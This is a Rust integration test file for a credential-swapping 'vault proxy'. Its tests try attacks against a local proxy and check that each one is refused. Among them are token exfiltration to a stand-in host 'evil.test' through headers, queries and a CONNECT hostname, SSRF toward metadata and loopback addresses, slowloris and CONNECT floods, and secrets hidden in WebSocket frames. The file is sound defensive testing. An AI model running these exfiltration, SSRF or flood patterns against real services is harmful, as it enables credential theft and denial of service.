//! Integration tests: each attacks one rule of the vault proxy contract
//! through a real proxy on 127.0.0.1:0 and a local HTTPS echo upstream.

mod common;

use std::time::Duration;

use base64::Engine;
use bytes::Bytes;
use common::*;
use http::{Request, StatusCode};
use http_body_util::{BodyExt, Empty};
use hyper_util::rt::{TokioExecutor, TokioIo};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use vault_proxy::audit::{Decision, EventKind};

fn b64(s: &str) -> String {
    base64::engine::general_purpose::STANDARD.encode(s)
}

async fn error_code(resp: reqwest::Response) -> (u16, String) {
    let status = resp.status().as_u16();
    let v: serde_json::Value = resp.json().await.unwrap_or_default();
    (
        status,
        v["error"]["code"].as_str().unwrap_or("").to_string(),
    )
}

/// Rule 1: no / invalid / revoked proxy auth → 407 with Proxy-Authenticate,
/// on CONNECT and on plain requests.
#[tokio::test]
async fn proxy_auth_required() {
    let up = start_upstream().await;
    let p = start_proxy(&up, ProxyOpts::default()).await;
    let (token, _) = p.grant("sb-a", &["GITHUB_TOKEN"]);
    let target = format!("api.github.test:{}", up.port);
    for auth in [
        None,
        Some(basic("sb-a", "wrong")),
        Some(basic("sb-b", &token)),
        Some("Bearer x".to_string()),
    ] {
        let (_, head) = raw_connect(p.addr, &target, auth.as_deref()).await;
        assert!(head.starts_with("HTTP/1.1 407"), "{auth:?}: {head}");
        assert!(
            head.to_ascii_lowercase()
                .contains("proxy-authenticate: basic"),
            "{head}"
        );
    }
    let (_, head) = raw_connect(p.addr, &target, Some(&basic("sb-a", &token))).await;
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    // Plain absolute-form without auth.
    let plain = reqwest::Client::builder()
        .proxy(reqwest::Proxy::http(format!("http://{}", p.addr)).unwrap())
        .build()
        .unwrap();
    let r = plain
        .get(format!("http://allowed.test:{}/", up.plain_port))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::PROXY_AUTHENTICATION_REQUIRED);
    // Revoked token.
    p.running().revoke("sb-a");
    let (_, head) = raw_connect(p.addr, &target, Some(&basic("sb-a", &token))).await;
    assert!(head.starts_with("HTTP/1.1 407"), "{head}");
    let (_, recs) = p.audit().await;
    assert!(
        recs.iter()
            .filter(|r| r.event == EventKind::Connect
                && r.decision == Decision::Deny
                && r.status == Some(407))
            .count()
            >= 5
    );
    assert!(up.seen().is_empty(), "nothing reached the upstream");
    p.shutdown().await;
}

/// Rule 4: a stub of this grant, to its bound host over TLS, is swapped in
/// headers, inside Basic (git's x-access-token form) and in the query; the
/// upstream sees the real value, the client never does (echo is scrubbed).
#[tokio::test]
async fn stub_swapped_toward_bound_host() {
    let up = start_upstream().await;
    let p = start_proxy(&up, ProxyOpts::default()).await;
    let (token, stubs) = p.grant("sb-a", &["GITHUB_TOKEN"]);
    let stub = &stubs["GITHUB_TOKEN"];
    assert!(stub.starts_with("ghp_") && stub.len() == GH_REAL.len());
    let c = p.client("sb-a", &token);
    let base = format!("https://api.github.test:{}", up.port);

    let r = c
        .get(format!("{base}/echo"))
        .header("authorization", format!("Bearer {stub}"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let body = r.text().await.unwrap();
    assert!(!body.contains(GH_REAL), "client saw the real value: {body}");
    assert!(body.contains(stub), "echo is scrubbed back to the stub");

    let r = c
        .get(format!("{base}/info/refs?service=git-upload-pack"))
        .header(
            "authorization",
            format!("Basic {}", b64(&format!("x-access-token:{stub}"))),
        )
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let r = c
        .get(format!("{base}/echo?access_token={stub}&x=1"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    assert!(!r.text().await.unwrap().contains(GH_REAL));

    let seen = up.seen();
    assert_eq!(seen.len(), 3);
    assert_eq!(
        seen[0].header("authorization").unwrap(),
        format!("Bearer {GH_REAL}")
    );
    assert_eq!(
        seen[1].header("authorization").unwrap(),
        format!("Basic {}", b64(&format!("x-access-token:{GH_REAL}")))
    );
    assert!(seen[2].uri.contains(&format!("access_token={GH_REAL}")));
    assert!(
        seen.iter()
            .all(|s| s.sni.as_deref() == Some("api.github.test")),
        "upstream SNI is the pinned host"
    );
    assert!(
        seen.iter().all(|s| !s.contains(stub)),
        "no stub reaches the upstream"
    );
    assert!(
        seen.iter()
            .all(|s| s.header("proxy-authorization").is_none())
    );

    let (_, recs) = p.audit().await;
    let swaps: Vec<_> = recs.iter().filter(|r| r.event == EventKind::Swap).collect();
    assert_eq!(swaps.len(), 3);
    assert!(swaps.iter().all(|r| r.credential.as_deref() == Some("GITHUB_TOKEN") && r.host == "api.github.test"));
    assert!(
        swaps.iter().any(|r| r.path == "/echo?access_token=&x="),
        "query values dropped"
    );
    assert!(recs.iter().any(|r| r.event == EventKind::Scrub));
    p.shutdown().await;
}

/// Rule 4: the same stub to an unbound host, over plain HTTP (absolute-form
/// and inside CONNECT), and another sandbox's stub → 403
/// credential_not_allowed_for_host + audit block; nothing reaches upstream.
#[tokio::test]
async fn stub_blocked_everywhere_else() {
    let up = start_upstream().await;
    let p = start_proxy(
        &up,
        ProxyOpts {
            egress_allow: vec!["allowed.test", "evil.test"],
            ..Default::default()
        },
    )
    .await;
    let (ta, sa) = p.grant("sb-a", &["GITHUB_TOKEN"]);
    let (tb, _) = p.grant("sb-b", &["GITHUB_TOKEN"]);
    let stub = sa["GITHUB_TOKEN"].clone();
    let ca = p.client("sb-a", &ta);

    // Unbound host (egress-allowed, so only the stub makes it a block).
    let r = ca
        .get(format!("https://evil.test:{}/collect", up.port))
        .header("authorization", format!("Bearer {stub}"))
        .send()
        .await
        .unwrap();
    assert_eq!(
        error_code(r).await,
        (403, "credential_not_allowed_for_host".into())
    );
    // In the query, to the unbound host.
    let r = ca
        .get(format!("https://evil.test:{}/c?t={stub}", up.port))
        .send()
        .await
        .unwrap();
    assert_eq!(
        error_code(r).await,
        (403, "credential_not_allowed_for_host".into())
    );
    // Plain HTTP absolute-form to the bound host name.
    let plain = reqwest::Client::builder()
        .proxy(reqwest::Proxy::http(format!("http://sb-a:{ta}@{}", p.addr)).unwrap())
        .build()
        .unwrap();
    let r = plain
        .get(format!("http://api.github.test:{}/", up.plain_port))
        .header("authorization", format!("Bearer {stub}"))
        .send()
        .await
        .unwrap();
    assert_eq!(
        error_code(r).await,
        (403, "credential_not_allowed_for_host".into())
    );
    // Plain HTTP bytes inside a CONNECT tunnel to the bound host.
    let (mut s, head) = raw_connect(
        p.addr,
        &format!("api.github.test:{}", up.plain_port),
        Some(&basic("sb-a", &ta)),
    )
    .await;
    assert!(head.starts_with("HTTP/1.1 200"));
    s.write_all(
        format!(
            "GET / HTTP/1.1\r\nHost: api.github.test:{}\r\nAuthorization: Bearer {stub}\r\n\r\n",
            up.plain_port
        )
        .as_bytes(),
    )
    .await
    .unwrap();
    let head = read_head(&mut s).await;
    assert!(head.starts_with("HTTP/1.1 403"), "{head}");
    // A stub in the CONNECT target (DNS/SNI exfiltration) is refused at CONNECT.
    let (_, head) = raw_connect(
        p.addr,
        &format!("{}.evil.test:443", stub.to_lowercase()),
        Some(&basic("sb-a", &ta)),
    )
    .await;
    assert!(
        head.starts_with("HTTP/1.1 200"),
        "a lower-cased stub is not the stub: {head}"
    );
    let (_, head) = raw_connect(
        p.addr,
        &format!("{stub}.evil.test:443"),
        Some(&basic("sb-a", &ta)),
    )
    .await;
    assert!(
        head.starts_with("HTTP/1.1 403") || head.starts_with("HTTP/1.1 400"),
        "{head}"
    );
    // Another sandbox's stub to the bound host.
    let cb = p.client("sb-b", &tb);
    let r = cb
        .get(format!("https://api.github.test:{}/echo", up.port))
        .header("authorization", format!("Bearer {stub}"))
        .send()
        .await
        .unwrap();
    assert_eq!(
        error_code(r).await,
        (403, "credential_not_allowed_for_host".into())
    );

    assert!(
        up.seen()
            .iter()
            .all(|s| !s.contains(GH_REAL) && !s.contains(&stub)),
        "{:?}",
        up.seen()
    );
    assert!(up.seen().is_empty());
    let (_, recs) = p.audit().await;
    let blocks: Vec<_> = recs
        .iter()
        .filter(|r| r.event == EventKind::Block && r.credential.as_deref() == Some("GITHUB_TOKEN"))
        .collect();
    assert_eq!(blocks.len(), 5, "{blocks:#?}");
    for reason in ["unbound_host", "plain_http", "foreign_stub"] {
        assert!(blocks.iter().any(|r| r.reason.contains(reason)), "{reason}");
    }
    p.shutdown().await;
}

/// Rule 5: the real value echoed in a header, a JSON body, a chunked body
/// and a gzip body reaches the client as the stub.
#[tokio::test]
async fn responses_are_scrubbed() {
    let up = start_upstream().await;
    let p = start_proxy(&up, ProxyOpts::default()).await;
    let (token, stubs) = p.grant("sb-a", &["GITHUB_TOKEN"]);
    let stub = &stubs["GITHUB_TOKEN"];
    let c = p.client("sb-a", &token);
    let base = format!("https://api.github.test:{}", up.port);
    let auth = format!("Bearer {stub}");

    let r = c
        .get(format!("{base}/echo-header"))
        .header("authorization", &auth)
        .send()
        .await
        .unwrap();
    assert_eq!(r.headers()["x-echo"].to_str().unwrap(), auth);
    for path in ["/echo", "/chunked", "/gzip"] {
        let r = c
            .get(format!("{base}{path}"))
            .header("authorization", &auth)
            .header("accept-encoding", "gzip, br")
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 200, "{path}");
        assert!(
            r.headers().get("content-encoding").is_none(),
            "{path}: decoded for scrubbing"
        );
        let body = r.bytes().await.unwrap();
        let text = String::from_utf8_lossy(&body);
        assert!(!text.contains(GH_REAL), "{path}: {text}");
        assert!(text.contains(stub.as_str()), "{path}: {text}");
    }
    // The upstream was asked only for encodings we can decode.
    let seen = up.seen();
    assert_eq!(
        seen.last().unwrap().header("accept-encoding").as_deref(),
        Some("gzip, br")
    );
    let (_, recs) = p.audit().await;
    assert_eq!(
        recs.iter().filter(|r| r.event == EventKind::Scrub).count(),
        4
    );
    p.shutdown().await;
}

/// Redirects are returned, never followed; a real value in Location is scrubbed.
/// Following it (client-side) sends only the stub to evil.test, which is blocked.
#[tokio::test]
async fn redirects_returned_not_followed() {
    let up = start_upstream().await;
    let p = start_proxy(&up, ProxyOpts::default()).await;
    let (token, stubs) = p.grant("sb-a", &["GITHUB_TOKEN"]);
    let stub = &stubs["GITHUB_TOKEN"];
    let c = p.client("sb-a", &token);
    let r = c
        .get(format!("https://api.github.test:{}/redirect", up.port))
        .header("authorization", format!("Bearer {stub}"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 302);
    let loc = r.headers()["location"].to_str().unwrap().to_string();
    assert!(
        loc.contains(stub.as_str()) && !loc.contains(GH_REAL),
        "{loc}"
    );
    assert_eq!(up.seen().len(), 1, "the proxy did not follow");
    // A client that follows: evil.test only ever sees nothing (blocked).
    let follow = p
        .client_builder("sb-a", &token)
        .redirect(reqwest::redirect::Policy::limited(3))
        .build()
        .unwrap();
    let r = follow
        .get(format!("https://api.github.test:{}/redirect", up.port))
        .header("authorization", format!("Bearer {stub}"))
        .send()
        .await
        .unwrap();
    assert_eq!(
        error_code(r).await,
        (403, "credential_not_allowed_for_host".into())
    );
    assert!(up.seen_for("evil.test").is_empty());
    p.shutdown().await;
}

/// Rule 6: requests without stubs follow egress (default deny), audited.
#[tokio::test]
async fn egress_default_deny() {
    let up = start_upstream().await;
    let p = start_proxy(&up, ProxyOpts::default()).await;
    let (token, _) = p.grant("sb-a", &["GITHUB_TOKEN"]);
    let c = p.client("sb-a", &token);
    let r = c
        .get(format!("https://evil.test:{}/", up.port))
        .send()
        .await
        .unwrap();
    assert_eq!(error_code(r).await, (403, "egress_denied".into()));
    // Even the bound host, without a stub, is not egress.
    let r = c
        .get(format!("https://api.github.test:{}/", up.port))
        .send()
        .await
        .unwrap();
    assert_eq!(error_code(r).await, (403, "egress_denied".into()));
    for _ in 0..3 {
        let r = c
            .get(format!("https://allowed.test:{}/echo", up.port))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 200);
    }
    let plain = reqwest::Client::builder()
        .proxy(reqwest::Proxy::http(format!("http://sb-a:{token}@{}", p.addr)).unwrap())
        .build()
        .unwrap();
    assert_eq!(
        plain
            .get(format!("http://allowed.test:{}/", up.plain_port))
            .send()
            .await
            .unwrap()
            .status(),
        200
    );
    assert_eq!(
        plain
            .get(format!("http://evil.test:{}/", up.plain_port))
            .send()
            .await
            .unwrap()
            .status(),
        403
    );
    assert_eq!(up.seen().len(), 4);
    assert!(
        up.seen()
            .iter()
            .all(|s| s.host().starts_with("allowed.test"))
    );
    let (_, recs) = p.audit().await;
    let allows = recs.iter().filter(|r| r.event == EventKind::Allow).count();
    assert_eq!(
        allows, 2,
        "allow audited once per tunnel + once for the plain request"
    );
    assert_eq!(
        recs.iter().filter(|r| r.reason == "egress_denied").count(),
        3
    );
    p.shutdown().await;
}

/// Rule 2: CONNECT target vs SNI vs Host vs :authority (h1 and h2).
#[tokio::test]
async fn destination_mismatch_refused() {
    let up = start_upstream().await;
    let p = start_proxy(
        &up,
        ProxyOpts {
            egress_allow: vec!["allowed.test", "evil.test"],
            ..Default::default()
        },
    )
    .await;
    let (token, stubs) = p.grant("sb-a", &["GITHUB_TOKEN"]);
    let stub = stubs["GITHUB_TOKEN"].clone();
    let auth = basic("sb-a", &token);
    let gh = format!("api.github.test:{}", up.port);
    let evil = format!("evil.test:{}", up.port);

    // CONNECT evil, SNI api.github.test: handshake refused.
    let (s, head) = raw_connect(p.addr, &evil, Some(&auth)).await;
    assert!(head.starts_with("HTTP/1.1 200"));
    assert!(
        tls_over(s, "api.github.test", &p.ca_pem, &[b"http/1.1"])
            .await
            .is_err()
    );
    // CONNECT api.github.test, SNI evil: refused.
    let (s, _) = raw_connect(p.addr, &gh, Some(&auth)).await;
    assert!(
        tls_over(s, "evil.test", &p.ca_pem, &[b"http/1.1"])
            .await
            .is_err()
    );

    // h1: CONNECT api.github.test, SNI ok, Host: evil.test + stub → 403.
    let (s, _) = raw_connect(p.addr, &gh, Some(&auth)).await;
    let tls = tls_over(s, "api.github.test", &p.ca_pem, &[b"http/1.1"])
        .await
        .unwrap();
    let (mut send, conn) = hyper::client::conn::http1::handshake(TokioIo::new(tls))
        .await
        .unwrap();
    tokio::spawn(conn);
    for host in [
        evil.clone(),
        "api.github.test:1".into(),
        format!("api.github.test:{}@evil.test", up.port),
    ] {
        let req = Request::get("/echo")
            .header("host", host.as_str())
            .header("authorization", format!("Bearer {stub}"))
            .body(Empty::<Bytes>::new())
            .unwrap();
        let resp = send.send_request(req).await.unwrap();
        assert_eq!(resp.status(), 403, "{host}");
        let body = resp.into_body().collect().await.unwrap().to_bytes();
        assert!(String::from_utf8_lossy(&body).contains("destination_mismatch"));
    }

    // h2: :authority evil.test inside a tunnel pinned to api.github.test.
    let (s, _) = raw_connect(p.addr, &gh, Some(&auth)).await;
    let tls = tls_over(s, "api.github.test", &p.ca_pem, &[b"h2"])
        .await
        .unwrap();
    assert_eq!(tls.get_ref().1.alpn_protocol(), Some(&b"h2"[..]));
    let (mut send, conn) =
        hyper::client::conn::http2::handshake(TokioExecutor::new(), TokioIo::new(tls))
            .await
            .unwrap();
    tokio::spawn(conn);
    let req = Request::get(format!("https://{evil}/echo"))
        .header("authorization", format!("Bearer {stub}"))
        .body(Empty::<Bytes>::new())
        .unwrap();
    let resp = send.send_request(req).await.unwrap();
    assert_eq!(resp.status(), 403);
    // …while a matching :authority in the same connection is swapped.
    let req = Request::get(format!("https://{gh}/echo"))
        .header("authorization", format!("Bearer {stub}"))
        .body(Empty::<Bytes>::new())
        .unwrap();
    let resp = send.send_request(req).await.unwrap();
    assert_eq!(resp.status(), 200);

    let seen = up.seen();
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0].sni.as_deref(), Some("api.github.test"));
    assert_eq!(
        seen[0].header("authorization"),
        Some(format!("Bearer {GH_REAL}")),
        "h2 request swapped"
    );
    assert!(up.seen_for("evil.test").is_empty());
    let (_, recs) = p.audit().await;
    assert!(
        recs.iter()
            .filter(|r| r.reason.contains("sni differs"))
            .count()
            >= 2
    );
    assert!(
        recs.iter()
            .filter(|r| r.reason.starts_with("destination_mismatch"))
            .count()
            >= 6
    );
    p.shutdown().await;
}

/// Rule 2: a tunnel that is neither TLS nor HTTP is closed, never passed raw.
#[tokio::test]
async fn unknown_tunnel_protocol_refused() {
    let up = start_upstream().await;
    let p = start_proxy(&up, ProxyOpts::default()).await;
    let (token, _) = p.grant("sb-a", &["GITHUB_TOKEN"]);
    for first in [
        &b"SSH-2.0-OpenSSH_9.6\r\n"[..],
        b"\x00\x01\x02\x03",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"get / HTTP/1.1\r\n\r\n",
    ] {
        let (mut s, head) = raw_connect(
            p.addr,
            &format!("allowed.test:{}", up.port),
            Some(&basic("sb-a", &token)),
        )
        .await;
        assert!(head.starts_with("HTTP/1.1 200"));
        s.write_all(first).await.unwrap();
        let mut buf = [0u8; 64];
        let n = tokio::time::timeout(Duration::from_secs(5), s.read(&mut buf))
            .await
            .unwrap()
            .unwrap_or(0);
        assert_eq!(n, 0, "closed without a byte back for {first:?}");
    }
    assert!(up.seen().is_empty());
    let (_, recs) = p.audit().await;
    assert_eq!(
        recs.iter()
            .filter(|r| r.reason.starts_with("unknown_protocol"))
            .count(),
        4
    );
    p.shutdown().await;
}

/// Rule 3: loopback/private/metadata/IP literals refused when
/// allow_private=false; the proxy's own address refused always.
#[tokio::test]
async fn private_destinations_refused() {
    let up = start_upstream().await;
    let p = start_proxy(
        &up,
        ProxyOpts {
            allow_private: false,
            egress_allow: vec!["allowed.test", "127.0.0.1", "169.254.169.254", "10.0.0.1"],
            ..Default::default()
        },
    )
    .await;
    let (token, stubs) = p.grant("sb-a", &["GITHUB_TOKEN"]);
    let auth = basic("sb-a", &token);
    // IP literals: refused at CONNECT.
    for target in [
        format!("127.0.0.1:{}", up.port),
        "169.254.169.254:80".into(),
        "10.0.0.1:443".into(),
        "[::1]:443".into(),
        format!("2130706433:{}", up.port),
    ] {
        let (_, head) = raw_connect(p.addr, &target, Some(&auth)).await;
        assert!(
            head.starts_with("HTTP/1.1 403") || head.starts_with("HTTP/1.1 400"),
            "{target}: {head}"
        );
    }
    // Names resolving (via network.resolve) to loopback: refused per request.
    let c = p.client("sb-a", &token);
    let r = c
        .get(format!("https://allowed.test:{}/", up.port))
        .send()
        .await
        .unwrap();
    assert_eq!(error_code(r).await, (403, "destination_not_allowed".into()));
    let r = c
        .get(format!("https://api.github.test:{}/", up.port))
        .header("authorization", format!("Bearer {}", stubs["GITHUB_TOKEN"]))
        .send()
        .await
        .unwrap();
    assert_eq!(error_code(r).await, (403, "destination_not_allowed".into()));
    assert!(up.seen().is_empty());
    p.shutdown().await;

    // With allow_private, the proxy's own ports are still refused.
    let p = start_proxy(
        &up,
        ProxyOpts {
            egress_allow: vec!["127.0.0.1", "allowed.test"],
            ..Default::default()
        },
    )
    .await;
    let (token, _) = p.grant("sb-a", &[]);
    let (_, head) = raw_connect(p.addr, &p.addr.to_string(), Some(&basic("sb-a", &token))).await;
    assert!(head.starts_with("HTTP/1.1 403"), "{head}");
    let (_, head) = raw_connect(
        p.addr,
        &p.admin.unwrap().to_string(),
        Some(&basic("sb-a", &token)),
    )
    .await;
    assert!(head.starts_with("HTTP/1.1 403"), "{head}");
    // An allowed IP literal with allow_private goes through (no credential).
    let c = p.client("sb-a", &token);
    assert_eq!(
        c.get(format!("https://allowed.test:{}/", up.port))
            .send()
            .await
            .unwrap()
            .status(),
        200
    );
    p.shutdown().await;
}

/// Revoking a grant kills an already-open tunnel (and its token).
#[tokio::test]
async fn revoke_kills_open_tunnel() {
    let up = start_upstream().await;
    let p = start_proxy(&up, ProxyOpts::default()).await;
    let (token, stubs) = p.grant("sb-a", &["GITHUB_TOKEN"]);
    let stub = stubs["GITHUB_TOKEN"].clone();
    let (s, _) = raw_connect(
        p.addr,
        &format!("api.github.test:{}", up.port),
        Some(&basic("sb-a", &token)),
    )
    .await;
    let tls = tls_over(s, "api.github.test", &p.ca_pem, &[b"http/1.1"])
        .await
        .unwrap();
    let (mut send, conn) = hyper::client::conn::http1::handshake(TokioIo::new(tls))
        .await
        .unwrap();
    let conn_task = tokio::spawn(conn);
    let req = || {
        Request::get("/echo")
            .header("host", format!("api.github.test:{}", up.port))
            .header("authorization", format!("Bearer {stub}"))
            .body(Empty::<Bytes>::new())
            .unwrap()
    };
    let resp = send.send_request(req()).await.unwrap();
    assert_eq!(resp.status(), 200);
    resp.into_body().collect().await.unwrap();
    assert!(p.running().revoke("sb-a"));
    // The tunnel is closed by the proxy.
    let done = tokio::time::timeout(Duration::from_secs(5), conn_task).await;
    assert!(done.is_ok(), "connection closed after revoke");
    assert!(send.send_request(req()).await.is_err());
    assert_eq!(up.seen().len(), 1);
    p.shutdown().await;
}

/// Slowloris, oversized headers and a CONNECT flood don't take the proxy
/// down; other clients keep working.
#[tokio::test]
async fn bad_clients_do_not_starve_others() {
    let up = start_upstream().await;
    let limits = vault_proxy::Limits {
        max_connections: 64,
        header_read_timeout: Duration::from_millis(500),
        handshake_timeout: Duration::from_millis(500),
        ..Default::default()
    };
    let p = start_proxy(
        &up,
        ProxyOpts {
            limits,
            ..Default::default()
        },
    )
    .await;
    let (token, _) = p.grant("sb-a", &[]);
    let c = p.client("sb-a", &token);
    let ok = || async {
        c.get(format!("https://allowed.test:{}/", up.port))
            .send()
            .await
            .map(|r| r.status().as_u16())
    };

    // Slowloris: 40 connections dribbling a request head.
    let mut slow = Vec::new();
    for _ in 0..40 {
        let mut s = tokio::net::TcpStream::connect(p.addr).await.unwrap();
        s.write_all(b"CONNECT allowed.test:443 HTTP/1.1\r\nX-a: ")
            .await
            .unwrap();
        slow.push(s);
    }
    // Oversized header.
    let mut big = tokio::net::TcpStream::connect(p.addr).await.unwrap();
    let huge = format!(
        "CONNECT allowed.test:443 HTTP/1.1\r\nX-big: {}\r\n\r\n",
        "a".repeat(200_000)
    );
    let _ = big.write_all(huge.as_bytes()).await;
    let head = read_head(&mut big).await;
    assert!(
        head.is_empty() || head.starts_with("HTTP/1.1 431") || head.starts_with("HTTP/1.1 400"),
        "{head}"
    );
    // Slow clients are cut off by the header timeout.
    tokio::time::sleep(Duration::from_millis(900)).await;
    for s in &mut slow {
        let mut b = [0u8; 16];
        let n = tokio::time::timeout(Duration::from_secs(2), s.read(&mut b))
            .await
            .unwrap()
            .unwrap_or(0);
        assert!(
            n == 0 || b.starts_with(b"HTTP/1.1 408"),
            "slowloris connection closed"
        );
    }
    drop(slow);
    // CONNECT flood: 200 tunnels that never speak.
    let mut flood = Vec::new();
    for _ in 0..200 {
        if let Ok(mut s) = tokio::net::TcpStream::connect(p.addr).await {
            let _ = s
                .write_all(
                    format!(
                        "CONNECT allowed.test:{} HTTP/1.1\r\nProxy-Authorization: {}\r\n\r\n",
                        up.port,
                        basic("sb-a", &token)
                    )
                    .as_bytes(),
                )
                .await;
            flood.push(s);
        }
    }
    // Tunnels time out (handshake_timeout) and free their slots; then others work.
    tokio::time::sleep(Duration::from_millis(1200)).await;
    drop(flood);
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert_eq!(ok().await.unwrap(), 200);
    p.shutdown().await;
}

/// The audit log never holds a secret or a stub, and its chain verifies.
#[tokio::test]
async fn audit_never_contains_secret_or_stub() {
    let up = start_upstream().await;
    let p = start_proxy(&up, ProxyOpts::default()).await;
    let (ta, sa) = p.grant("sb-a", &["GITHUB_TOKEN", "OTHER"]);
    let (tb, _) = p.grant("sb-b", &["GITHUB_TOKEN"]);
    let stub = sa["GITHUB_TOKEN"].clone();
    let ca = p.client("sb-a", &ta);
    let cb = p.client("sb-b", &tb);
    let base = format!("https://api.github.test:{}", up.port);
    let _ = ca
        .get(format!("{base}/echo?access_token={stub}"))
        .send()
        .await
        .unwrap();
    let _ = ca
        .get(format!("{base}/echo-header"))
        .header("authorization", format!("token {stub}"))
        .send()
        .await
        .unwrap();
    let _ = ca
        .get(format!("https://evil.test:{}/{stub}?k={stub}", up.port))
        .send()
        .await
        .unwrap();
    let _ = cb.get(format!("{base}/x?k={stub}")).send().await.unwrap();
    let _ = ca
        .post(format!("https://other.github.test:{}/echo", up.port))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(format!("token={}", sa["OTHER"]))
        .send()
        .await
        .unwrap();
    let (text, recs) = p.audit().await;
    assert!(recs.len() >= 6);
    for needle in [GH_REAL, OTHER_REAL, &stub, &sa["OTHER"], &ta, &tb] {
        assert!(!text.contains(needle), "audit log leaks a value");
    }
    let report = vault_proxy::audit::verify(&p.audit_path).unwrap();
    assert!(report.broken.is_none(), "{report:?}");
    // The credential with a `form:token` position was swapped in the body.
    let seen = up.seen_for("other.github.test");
    assert_eq!(seen.len(), 1);
    assert_eq!(
        String::from_utf8_lossy(&seen[0].body),
        format!("token={OTHER_REAL}")
    );
    p.shutdown().await;
}

/// WebSocket: the upgrade passes; a stub in a client frame closes the socket.
#[tokio::test]
async fn websocket_frames_inspected() {
    let up = start_upstream().await;
    let p = start_proxy(&up, ProxyOpts::default()).await;
    let (token, stubs) = p.grant("sb-a", &["GITHUB_TOKEN"]);
    let stub = stubs["GITHUB_TOKEN"].clone();
    let (s, _) = raw_connect(
        p.addr,
        &format!("allowed.test:{}", up.port),
        Some(&basic("sb-a", &token)),
    )
    .await;
    let mut tls = tls_over(s, "allowed.test", &p.ca_pem, &[b"http/1.1"])
        .await
        .unwrap();
    let key = "dGhlIHNhbXBsZSBub25jZQ==";
    tls.write_all(format!(
        "GET /ws HTTP/1.1\r\nHost: allowed.test:{}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Extensions: permessage-deflate\r\n\r\n",
        up.port
    ).as_bytes()).await.unwrap();
    let mut head = Vec::new();
    let mut b = [0u8; 1];
    while !head.ends_with(b"\r\n\r\n") {
        tls.read_exact(&mut b).await.unwrap();
        head.push(b[0]);
    }
    let head = String::from_utf8_lossy(&head).to_string();
    assert!(head.starts_with("HTTP/1.1 101"), "{head}");
    let frame = |payload: &[u8]| {
        let mask = [1u8, 2, 3, 4];
        let mut f = vec![0x81, 0x80 | payload.len() as u8];
        f.extend_from_slice(&mask);
        f.extend(payload.iter().enumerate().map(|(i, b)| b ^ mask[i % 4]));
        f
    };
    // A clean frame is echoed back.
    tls.write_all(&frame(b"hello")).await.unwrap();
    let mut echo = vec![0u8; 7];
    tls.read_exact(&mut echo).await.unwrap();
    assert_eq!(echo, common::server_frame(0x81, b"hello"));
    // The real value coming back from the server is scrubbed to the stub.
    tls.write_all(&frame(format!("got {GH_REAL}!").as_bytes()))
        .await
        .unwrap();
    let want = common::server_frame(0x81, format!("got {stub}!").as_bytes());
    let mut echo = vec![0u8; want.len()];
    tls.read_exact(&mut echo).await.unwrap();
    assert_eq!(
        String::from_utf8_lossy(&echo),
        String::from_utf8_lossy(&want)
    );
    // A stub closes the socket.
    tls.write_all(&frame(format!("tok {stub}").as_bytes()))
        .await
        .unwrap();
    let mut rest = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(5), tls.read_to_end(&mut rest)).await;
    assert!(
        !String::from_utf8_lossy(&rest).contains("tok"),
        "the stub frame never came back"
    );
    let seen = up.seen();
    assert!(
        seen[0].header("sec-websocket-extensions").is_none(),
        "extensions stripped"
    );
    let (_, recs) = p.audit().await;
    assert!(
        recs.iter()
            .any(|r| r.reason.contains("stub_in_websocket_frame"))
    );
    assert!(recs.iter().any(|r| r.reason == "secret_in_websocket_frame"));
    p.shutdown().await;
}

/// WebSocket: a real value the server splits across two frames cannot be
/// patched in the frame already sent, so the socket closes (fail closed).
#[tokio::test]
async fn websocket_secret_split_across_server_frames_closes_the_socket() {
    let up = start_upstream().await;
    let p = start_proxy(&up, ProxyOpts::default()).await;
    let (token, _stubs) = p.grant("sb-a", &["GITHUB_TOKEN"]);
    let (s, _) = raw_connect(
        p.addr,
        &format!("allowed.test:{}", up.port),
        Some(&basic("sb-a", &token)),
    )
    .await;
    let mut tls = tls_over(s, "allowed.test", &p.ca_pem, &[b"http/1.1"])
        .await
        .unwrap();
    tls.write_all(format!(
        "GET /ws HTTP/1.1\r\nHost: allowed.test:{}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n",
        up.port
    ).as_bytes()).await.unwrap();
    let mut head = Vec::new();
    let mut b = [0u8; 1];
    while !head.ends_with(b"\r\n\r\n") {
        tls.read_exact(&mut b).await.unwrap();
        head.push(b[0]);
    }
    assert!(head.starts_with(b"HTTP/1.1 101"));
    let frame = |first: u8, payload: &[u8]| {
        let mask = [9u8, 8, 7, 6];
        let mut f = vec![first, 0x80 | payload.len() as u8];
        f.extend_from_slice(&mask);
        f.extend(payload.iter().enumerate().map(|(i, b)| b ^ mask[i % 4]));
        f
    };
    // A fragmented text message: the real value's halves in two frames.
    let (a, z) = GH_REAL.split_at(GH_REAL.len() / 2);
    tls.write_all(&frame(0x01, a.as_bytes())).await.unwrap();
    tls.write_all(&frame(0x80, z.as_bytes())).await.unwrap();
    let mut rest = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(5), tls.read_to_end(&mut rest)).await;
    assert!(
        !String::from_utf8_lossy(&rest).contains(z),
        "the second half never reached the client"
    );
    let (_, recs) = p.audit().await;
    assert!(
        recs.iter()
            .any(|r| r.reason == "secret_split_across_websocket_frames"),
        "{recs:?}"
    );
    p.shutdown().await;
}

/// Admin API: bearer token, grants, revoke, CA PEM, health.
#[tokio::test]
async fn admin_api() {
    let up = start_upstream().await;
    let p = start_proxy(&up, ProxyOpts::default()).await;
    let admin = format!("http://{}", p.admin.unwrap());
